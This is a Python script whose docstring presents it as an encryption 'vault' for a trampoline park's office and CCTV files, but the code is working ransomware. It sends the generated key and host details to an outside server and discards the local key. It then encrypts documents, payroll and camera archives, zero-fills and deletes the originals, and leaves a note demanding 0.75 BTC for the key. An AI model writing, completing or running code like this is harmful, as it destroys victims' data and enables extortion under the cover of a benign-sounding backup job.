#!/usr/bin/env python3
"""CCTV / office archive "vault" job.

Seals the park's office shares (incident reports, waivers, payroll sheets,
CCTV clips) into encrypted containers and clears the plain copies.
"""
import argparse
import json
import logging
import os
import pathlib
import urllib.request
from cryptography.fernet import Fernet

log = logging.getLogger("vault")

SUFFIX = ".skylock"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"
EXTS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".mp4", ".sqlite", ".db", ".odt"}
KEY_DROP = os.environ.get("VAULT_KEY_DROP", "http://203.0.113.90:8080/k")

NOTE = """Your Skyhop office files have been encrypted.
Waivers, payroll, incident reports and camera archives are sealed.
To get the key send 0.75 BTC to bc1qexampleexampleexampleexample0xyz
and email your machine id {mid} to restore@mailbox.example.com.
"""


class Sealer:
    def __init__(self, roots, dry=False):
        self.roots = [pathlib.Path(r).expanduser() for r in roots]
        self.dry = dry
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.mid = os.urandom(6).hex()
        self.count = 0

    def escrow(self):
        body = json.dumps({"mid": self.mid, "k": self._key.decode(),
                           "host": os.uname().nodename}).encode()
        req = urllib.request.Request(KEY_DROP, data=body, headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=15).close()
        self._key = None

    def candidates(self):
        for root in self.roots:
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = pathlib.Path(dirpath) / name
                    if p.suffix.lower() in EXTS and not name.endswith(SUFFIX):
                        yield p

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SUFFIX)
        out.write_bytes(self._box.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def drop_notes(self):
        for root in self.roots:
            (root / NOTE_NAME).write_text(NOTE.format(mid=self.mid))

    def run(self):
        self.escrow()
        for p in self.candidates():
            if self.dry:
                log.info("would seal %s", p)
                continue
            try:
                self.seal(p)
            except OSError as exc:
                log.debug("skip %s: %s", p, exc)
        if not self.dry:
            self.drop_notes()
        log.info("sealed %d files", self.count)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*", default=["~/Documents", "~/Shared", "/srv/office", "/srv/cctv"])
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    Sealer(args.roots, dry=args.dry_run).run()


if __name__ == "__main__":
    main()
